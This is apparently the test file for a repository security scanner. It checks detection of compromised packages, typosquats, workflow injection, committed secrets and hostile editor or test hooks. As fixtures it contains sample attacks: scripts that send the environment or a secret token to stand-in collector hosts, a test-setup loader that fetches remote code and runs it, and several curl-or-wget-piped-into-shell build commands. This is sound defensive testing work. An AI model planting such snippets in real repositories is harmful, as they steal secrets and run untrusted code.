import type { AgentFinding, AgentResult } from '@vigil/core';
import { describe, expect, it } from 'vitest';
import { dirWith } from '../../../../sandbox/src/test-support/temp-dirs.js';
import { createRepositoryAnalyzer, analyzeRepository } from './analyze-repository.js';

async function analyze(files: Record<string, string>): Promise<AgentResult> {
  return analyzeRepository({ dir: await dirWith(files), track: 'repositories', bundleHash: null });
}

function only(result: AgentResult, category: string): AgentFinding[] {
  return result.findings.filter((f) => f.category === category);
}

// Random-looking, never valid, `length` characters in all: built at run time so the source holds no
// token-shaped literal.
const token = (prefix: string, length: number) => prefix + 'Zq8RkW3vTn5YpL0cXb7MdA2sEf9GhJ4uKo6iNr1t'.repeat(3).slice(0, length - prefix.length);

function packageLock(packages: Record<string, Record<string, unknown>>, direct: Record<string, string> = {}): string {
  const root = { name: 'app', version: '1.0.0', dependencies: direct };
  return `${JSON.stringify({ name: 'app', version: '1.0.0', lockfileVersion: 3, requires: true, packages: { '': root, ...packages } }, null, 2)}\n`;
}

/** The 1-based line of a package-lock's entry for `name`. */
const entryLine = (lock: string, name: string) => lock.split('\n').findIndex((l) => l.includes(`"node_modules/${name}": {`)) + 1;

const reg = (name: string, version: string, extra: Record<string, unknown> = {}) => ({
  version,
  resolved: `https://registry.npmjs.org/${name}/-/${name.split('/').pop()}-${version}.tgz`,
  integrity: 'sha512-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA==',
  ...extra,
});

describe('analyzeRepository: lockfiles', () => {
  it('blocks a known-compromised version, naming the lockfile line where the package is recorded', async () => {
    const lock = packageLock({ 'node_modules/left-pad': reg('left-pad', '1.3.0'), 'node_modules/event-stream': reg('event-stream', '3.3.6') }, { 'event-stream': '3.3.6' });
    const result = await analyze({ 'web/package-lock.json': lock });
    expect(result.verdict).toBe('BLOCK');
    const [hit] = only(result, 'malware');
    expect(hit).toMatchObject({ severity: 'CRIT', file: 'web/package-lock.json', title: expect.stringContaining('event-stream@3.3.6') });
    expect(hit!.line).toBe(entryLine(lock, 'event-stream'));
    expect(hit!.evidence).toContain('https://github.com/dominictarr/event-stream/issues/116');
  });

  it('reads every lockfile format through @vigil/lockfiles: a PyPI pin in requirements.txt, a yarn.lock entry', async () => {
    const result = await analyze({
      'requirements.txt': 'requests==2.32.3\nctx==0.2.6\n',
      'client/yarn.lock': '# yarn lockfile v1\n\n\nua-parser-js@^0.7.28:\n  version "0.7.29"\n  resolved "https://registry.yarnpkg.com/ua-parser-js/-/ua-parser-js-0.7.29.tgz"\n',
    });
    expect(only(result, 'malware').map((f) => [f.file, f.line])).toEqual([
      ['client/yarn.lock', 4],
      ['requirements.txt', 2],
    ]);
  });

  it('leaves the release next to a compromised one alone', async () => {
    const result = await analyze({ 'package-lock.json': packageLock({ 'node_modules/chalk': reg('chalk', '5.6.2'), 'node_modules/debug': reg('debug', '4.4.3') }) });
    expect(result).toMatchObject({ verdict: 'ALLOW', findings: [] });
  });

  it('warns on a direct dependency one edit from a popular name, but not on a transitive one', async () => {
    const lock = packageLock({ 'node_modules/lodahs': reg('lodahs', '1.0.0') }, { lodahs: '^1.0.0' });
    const direct = await analyze({ 'package-lock.json': lock });
    expect(only(direct, 'typosquat')).toMatchObject([{ severity: 'HIGH', file: 'package-lock.json', line: entryLine(lock, 'lodahs'), evidence: 'lodahs@1.0.0 (like lodash)' }]);
    expect(direct.verdict).toBe('WARN');
    const transitive = await analyze({ 'package-lock.json': packageLock({ 'node_modules/enquirer': reg('enquirer', '2.4.1'), 'node_modules/lodahs': reg('lodahs', '1.0.0') }) });
    expect(only(transitive, 'typosquat')).toEqual([]);
  });

  it('reports git and URL dependencies as non-registry sources, an unfamiliar or plain-HTTP host higher', async () => {
    const lock = packageLock({
      'node_modules/ui': { version: '2.1.0', resolved: 'git+ssh://git@github.com/acme/ui.git#3f1c2a9e5b7d4c6a8e0f1b2c3d4e5f6a7b8c9d0e' },
      'node_modules/helper': { version: '1.0.0', resolved: 'http://203.0.113.9/helper-1.0.0.tgz' },
    }, { ui: 'github:acme/ui', helper: 'http://203.0.113.9/helper-1.0.0.tgz' });
    const result = await analyze({ 'package-lock.json': lock });
    const findings = only(result, 'dependency_confusion');
    expect(findings.map((f) => [f.severity, f.title])).toEqual([
      ['MED', 'dependency downloaded from an unfamiliar URL instead of the registry'],
      ['LOW', 'dependency installed from a git repository instead of the registry'],
    ]);
    expect(findings[0]!.evidence).toBe('helper: http://203.0.113.9/helper-1.0.0.tgz');
    expect(result.verdict).toBe('ALLOW');
  });

  it('warns on an npm package at an implausible version with an install script (dependency confusion), not on calendar-versioned PyPI pins', async () => {
    const lock = packageLock({ 'node_modules/corp-auth': reg('corp-auth', '9000.0.0', { hasInstallScript: true }) });
    const result = await analyze({ 'package-lock.json': lock, 'requirements.txt': 'certifi==2024.8.30\ntzdata==2024.2\n' });
    expect(only(result, 'dependency_confusion')).toMatchObject([{ severity: 'HIGH', file: 'package-lock.json', evidence: 'corp-auth@9000.0.0' }]);
    expect(only(result, 'install_script')).toMatchObject([{ severity: 'LOW', evidence: 'corp-auth' }]);
    expect(result.verdict).toBe('WARN');
  });

  it('reports a lockfile it cannot read at LOW with the reader’s detail, and ignores lockfiles inside node_modules', async () => {
    const result = await analyze({
      'package-lock.json': '{ "lockfileVersion": 3,\n  "packages": { ',
      'node_modules/lib/package-lock.json': packageLock({ 'node_modules/event-stream': reg('event-stream', '3.3.6') }),
    });
    expect(result.findings).toMatchObject([{ category: 'lockfile', severity: 'LOW', file: 'package-lock.json', evidence: expect.stringMatching(/^package-lock\.json: line \d+: /) }]);
  });

  it('takes verdicts Vigil holds at run time through createRepositoryAnalyzer', async () => {
    const analyzer = createRepositoryAnalyzer({
      knownPackages: (ecosystem, name, version) => (ecosystem === 'npm' && name === 'left-pad' && version === '1.3.0' ? { verdict: 'BLOCK', reason: 'published BLOCK verdict' } : null),
    });
    const lock = packageLock({ 'node_modules/left-pad': reg('left-pad', '1.3.0') });
    const result = await analyzer({ dir: await dirWith({ 'package-lock.json': lock }), track: 'repositories', bundleHash: null });
    expect(only(result, 'malware')).toMatchObject([{ severity: 'CRIT', line: entryLine(lock, 'left-pad'), evidence: 'published BLOCK verdict' }]);
  });
});

const wf = (body: string) => ({ '.github/workflows/ci.yml': body });

describe('analyzeRepository: CI workflows', () => {
  it('blocks a pull_request_target workflow that checks out the PR head and runs it, at the checkout ref line', async () => {
    const result = await analyze(
      wf(`on:
  pull_request_target:
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        with:
          ref: \${{ github.event.pull_request.head.sha }}
      - run: npm ci && npm test
`),
    );
    expect(result.verdict).toBe('BLOCK');
    expect(result.findings.find((f) => f.severity === 'CRIT')).toMatchObject({ category: 'remote_code_execution', file: '.github/workflows/ci.yml', line: 9, title: expect.stringContaining('pwn request') });
  });

  it('allows pull_request_target that only labels, and a checkout of the base branch', async () => {
    const result = await analyze(
      wf(`on: [pull_request_target]
jobs:
  label:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: actions/labeler@v5
      - run: node scripts/label.js
        env:
          TITLE: \${{ github.event.pull_request.title }}
`),
    );
    expect(result).toMatchObject({ verdict: 'ALLOW', findings: [] });
  });

  it('finds outsider text interpolated into run and github-script, CRIT under a privileged trigger, HIGH otherwise', async () => {
    const privileged = await analyze({
      '.github/workflows/t.yaml': `on:
  issue_comment:
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/github-script@v7
        with:
          script: |
            const text = "\${{ github.event.comment.body }}";
`,
    });
    expect(privileged.findings).toMatchObject([{ severity: 'CRIT', file: '.github/workflows/t.yaml', line: 10, evidence: '${{ github.event.comment.body }} under issue_comment' }]);
    const plain = await analyze(wf(`on: push\njobs:\n  j:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          echo start\n          echo "\${{github.event.head_commit.message}}"\n`));
    expect(plain.findings).toMatchObject([{ severity: 'HIGH', line: 8, title: expect.stringContaining('script injection') }]);
    expect(plain.verdict).toBe('WARN');
    // A fork's pull_request run has no secrets and a read-only token: reported, not a warning.
    const fork = await analyze(wf(`on: pull_request\njobs:\n  j:\n    runs-on: ubuntu-latest\n    steps:\n      - run: git fetch origin \${{ github.head_ref }}\n`));
    expect(fork.findings).toMatchObject([{ severity: 'MED', line: 6 }]);
    expect(fork.verdict).toBe('ALLOW');
  });

  it('blocks the malicious commit of a compromised action; its restored tags are a MED (also the LOW every unpinned third-party action gets)', async () => {
    const bad = await analyze(wf(`on: push\njobs:\n  j:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: tj-actions/changed-files@0e58ed8671d6b60d0890c21b07f8835ace038e67\n`));
    expect(bad.findings.map((f) => [f.severity, f.line, f.title])).toEqual([['CRIT', 6, 'workflow uses a commit of an action known to be malicious']]);
    const result = await analyze(wf(`on: push\njobs:\n  j:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: tj-actions/changed-files@v45\n      - uses: docker/setup-buildx-action@v3\n`));
    expect(result.findings.map((f) => [f.severity, f.line])).toEqual([
      ['MED', 7],
      // One finding per title and file: the LOW of line 8's action collapses into line 7's.
      ['LOW', 7],
    ]);
    const pinned = await analyze(wf(`on: push\njobs:\n  j:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: docker/setup-buildx-action@b5ca514318bd6ebac0fb2aedd5d36ec1b5c232a2\n`));
    expect(pinned.findings).toEqual([]);
  });

  it('finds secrets printed or sent out, and downloaded scripts piped into a shell', async () => {
    const result = await analyze(
      wf(`on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - run: echo \${{ secrets.NPM_TOKEN }} | base64
      - run: echo '\${{ toJSON(secrets) }}'
      - run: curl -d "t=\${{ secrets.PYPI_TOKEN }}" https://collector.example/x
      - run: curl -sSf https://sh.rustup.rs | sh -s -- -y
      - run: 'curl -H "Authorization: Bearer \${{ secrets.GITHUB_TOKEN }}" https://api.github.com/user'
      - run: 'curl -X POST -H "Authorization: Bearer \${{ secrets.DEPLOY_TOKEN }}" https://deploy.acme.example/hook'
      - run: |
          echo "\${{ secrets.SSH_KEY }}" > ~/.ssh/id_ed25519
          echo "//registry.npmjs.org/:_authToken=\${{ secrets.NPM_TOKEN }}" >> ~/.npmrc
          echo "\${{ secrets.REGISTRY_PASSWORD }}" | docker login ghcr.io -u bot --password-stdin
          echo "::add-mask::\${{ secrets.EXTRA }}"
`),
    );
    expect(result.findings.map((f) => [f.severity, f.line, f.title])).toEqual([
      ['HIGH', 6, 'workflow script prints a secret'],
      ['HIGH', 7, 'workflow script prints or sends every secret'],
      ['HIGH', 8, 'workflow script sends a secret to an unfamiliar host'],
      ['LOW', 9, 'workflow pipes an official installer into a shell'],
    ]);
  });
});

describe('analyzeRepository: committed secrets', () => {
  it('blocks an AWS key with its secret next to it, and never echoes a secret in evidence', async () => {
    const id = token('AKIA', 20).toUpperCase().replace(/[^A-Z0-9]/g, 'Q');
    const secret = token('', 40);
    const result = await analyze({ 'src/config.js': `export default {\n  accessKeyId: '${id}',\n  secretAccessKey: '${secret}',\n};\n` });
    expect(result.findings).toMatchObject([{ category: 'credential_exposure', severity: 'CRIT', file: 'src/config.js', line: 2 }]);
    expect(JSON.stringify(result)).not.toContain(secret);
    expect(JSON.stringify(result)).not.toContain(id);
    expect(result.findings[0]!.evidence).toMatch(/^AKIA\*+ \(20 chars\) with secret Zq8R\*+ \(40 chars\)$/);
  });

  it('finds GitHub, npm and Stripe tokens, a private key, a .env file and an .npmrc token', async () => {
    const result = await analyze({
      'scripts/clone.sh': `git clone https://x:${token('ghp_', 40)}@github.com/acme/tools.git\n`,
      '.npmrc': `//registry.npmjs.org/:_authToken=${token('npm_', 40)}\n`,
      '.env.production': `API_URL=https://api.example\nSTRIPE_SECRET_KEY=${token('sk_live_', 32)}\n`,
      // (round s30) a key's length: an RSA block cut to one line is an example, not a key.
      'keys/deploy.pem': `-----BEGIN RSA PRIVATE KEY-----\n${Array.from({ length: 5 }, () => token('', 64)).join('\n')}\n-----END RSA PRIVATE KEY-----\n`,
    });
    expect(result.findings.map((f) => `${f.severity} ${f.file}:${f.line} ${f.title}`).sort()).toEqual([
      'CRIT .env.production:2 Stripe live secret key committed',
      'CRIT .npmrc:1 npm access token committed',
      'CRIT .npmrc:1 registry credential committed in .npmrc',
      'CRIT scripts/clone.sh:1 GitHub token committed',
      'HIGH .env.production:2 secret values committed in a .env file',
      'HIGH keys/deploy.pem:1 private key committed',
    ]);
    expect(result.verdict).toBe('BLOCK');
  });

  it('allows documented example keys, placeholders, env references, templates, and reports fixtures at LOW', async () => {
    const result = await analyze({
      'README.md': 'export AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\nexport AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n',
      '.env.example': `STRIPE_SECRET_KEY=sk_live_your_key_here\nGITHUB_TOKEN=ghp_${'x'.repeat(36)}\n`,
      '.env': 'POSTGRES_PASSWORD=postgres\nPORT=3000\n',
      '.npmrc': '//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n',
      'test/fixtures/tls.key': `-----BEGIN PRIVATE KEY-----\n${token('', 64)}\n-----END PRIVATE KEY-----\n`,
    });
    expect(result.findings).toMatchObject([{ severity: 'LOW', file: 'test/fixtures/tls.key', line: 1 }]);
    expect(result.verdict).toBe('ALLOW');
  });
});

describe('analyzeRepository: programs the editor and the test runner start', () => {
  const stealer = "#!/bin/sh\ncurl -s -d \"$(env)\" https://collect.example-metrics.net/c\nexec /usr/bin/php \"$@\"\n";

  it('reports a workspace setting naming a committed program at MED and analyzes the program as code run automatically', async () => {
    const result = await analyze({ '.vscode/settings.json': '{\n  // pinned\n  "php.validate.executablePath": "./tools/php"\n}\n', 'tools/php': stealer });
    const setting = result.findings.find((f) => f.title === 'workspace settings make the editor run a program committed in the repository');
    expect(setting).toMatchObject({ severity: 'MED', file: '.vscode/settings.json', line: 3, evidence: 'php.validate.executablePath: tools/php' });
    expect(result.findings).toContainEqual(expect.objectContaining({ severity: 'CRIT', file: 'tools/php', line: 2, title: 'script run automatically: sends the whole environment over the network' }));
    expect(result.verdict).toBe('BLOCK');
  });

  it('follows go.alternateTools maps and ${workspaceFolder} paths, in a workspace below the root', async () => {
    const settings = JSON.stringify({ 'go.alternateTools': { go: '${workspaceFolder}/hack/go.sh' } });
    const result = await analyze({ 'svc/.vscode/settings.json': settings, 'svc/hack/go.sh': stealer.replace('#!/bin/sh\n', '') });
    expect(result.findings.map((f) => f.file)).toEqual(expect.arrayContaining(['svc/.vscode/settings.json', 'svc/hack/go.sh']));
  });

  it('ignores settings naming paths that are not committed files (node_modules, .venv, absolute paths, directories)', async () => {
    const settings = JSON.stringify({ 'typescript.tsdk': 'node_modules/typescript/lib', 'python.defaultInterpreterPath': '${workspaceFolder}/.venv/bin/python', 'git.path': '/usr/bin/git', 'jest.rootPath': 'packages' });
    const result = await analyze({ '.vscode/settings.json': settings, 'packages/a.txt': 'x' });
    expect(result.findings).toEqual([]);
  });

  it('gives a whole command line setting the command checks as automatic', async () => {
    const result = await analyze({ '.vscode/settings.json': JSON.stringify({ 'jest.jestCommandLine': 'curl -s http://203.0.113.9/j.sh | sh' }) });
    expect(result.findings).toContainEqual(expect.objectContaining({ severity: 'CRIT', title: 'VS Code setting jest.jestCommandLine: downloads code from plain HTTP, an IP address or an anonymous host and runs it' }));
  });

  it('analyzes conftest.py even under tests/, and the setup files a Jest or Vitest configuration names', async () => {
    const conftest = 'import os, json, urllib.request\nurllib.request.urlopen("https://c.example-stats.net/x", data=json.dumps(dict(os.environ)).encode())\n';
    const loader = "export default async () => {\n  const code = await (await fetch('https://cdn.example-assets.net/b.js')).text();\n  new Function(code)();\n};\n";
    const result = await analyze({
      'tests/conftest.py': conftest,
      'vitest.config.mjs': "export default { test: { globalSetup: ['./test/setup.mjs'], setupFiles: 'jest-extended/all' } };\n",
      'test/setup.mjs': loader,
    });
    const files = new Set(result.findings.filter((f) => f.severity === 'CRIT').map((f) => f.file));
    expect(files).toEqual(new Set(['tests/conftest.py', 'test/setup.mjs']));
    expect(result.findings.find((f) => f.file === 'test/setup.mjs')!.evidence).toContain('[test setup code');
  });

  it('leaves ordinary test setup alone: a local server, a database container, environment defaults', async () => {
    const conftest = 'import os, subprocess, sys\nimport pytest\n\n@pytest.fixture\ndef url():\n    return os.environ.get("DATABASE_URL", "sqlite://")\n\n@pytest.fixture\ndef server():\n    p = subprocess.Popen([sys.executable, "-m", "http.server", "8765"])\n    yield "http://127.0.0.1:8765"\n    p.terminate()\n';
    const setup = "const { execSync } = require('child_process');\nmodule.exports = async () => { execSync('docker compose up -d db'); };\n";
    const result = await analyze({ 'tests/conftest.py': conftest, 'jest.config.js': "module.exports = { globalSetup: '<rootDir>/test/setup.js' };\n", 'test/setup.js': setup });
    expect(result.verdict).toBe('ALLOW');
  });
});

describe('analyzeRepository: build scripts of other ecosystems', () => {
  it('checks command lines of build.rs and Gradle scripts as run on IDE import, CMake and m4 as configure scripts, skipping comments', async () => {
    const result = await analyze({
      'build.rs': 'fn main() {\n    // curl -s https://x.example.net/a | sh\n    Command::new("sh").arg("-c").arg("curl -s https://x.example.net/a | sh").status();\n}\n',
      'lib/build.gradle': "task warm(type: Exec) {\n  commandLine 'sh', '-c', 'wget -qO- http://198.51.100.4/w | sh'\n}\n",
      'CMakeLists.txt': '# curl -s https://paste.ee/r/x | sh\nexecute_process(COMMAND sh -c "curl -s https://example.org/x | sh")\n',
    });
    const got = result.findings.map((f) => [f.severity, f.title, f.file, f.line]);
    expect(got).toEqual(
      expect.arrayContaining([
        // Round r19-langs: a fetch-and-run in a build step is CRIT from any host but an official installer's.
        ['CRIT', 'build script run on IDE import: downloads code from the network and runs it', 'build.rs', 3],
        ['CRIT', 'build script run on IDE import: downloads code from plain HTTP, an IP address or an anonymous host and runs it', 'lib/build.gradle', 2],
        ['CRIT', 'configure script: downloads code from the network and runs it', 'CMakeLists.txt', 2],
      ]),
    );
    expect(got).toHaveLength(3);
  });
});

describe('analyzeRepository: test setup code is judged as a test harness', () => {
  it('reports environment isolation, fetch mocking and monkey-patching in test setup at LOW, but not the same code in a build configuration', async () => {
    const setup = 'import { record } from "./rec";\nglobalThis.fetch = record(globalThis.fetch);\n';
    const conftest = 'import os\nimport urllib.request\nimport pytest\n\n@pytest.fixture(autouse=True)\ndef clean():\n    saved = os.environ.copy()\n    yield\n    os.environ.clear()\n    os.environ.update(saved)\n\n@pytest.fixture\ndef up():\n    return urllib.request.urlopen("http://127.0.0.1:8000/health")\n';
    const result = await analyze({ 'jest.config.js': "module.exports = { setupFilesAfterEnv: ['<rootDir>/scripts/jest-setup.js'] };\n", 'scripts/jest-setup.js': setup, 'tests/conftest.py': conftest, 'vite.config.js': setup });
    const severities = (file: string) => result.findings.filter((f) => f.file === file).map((f) => f.severity);
    expect(severities('scripts/jest-setup.js')).toEqual(['LOW']);
    expect(severities('tests/conftest.py')).toEqual(['LOW']);
    expect(severities('vite.config.js')).toContain('MED');
  });
});
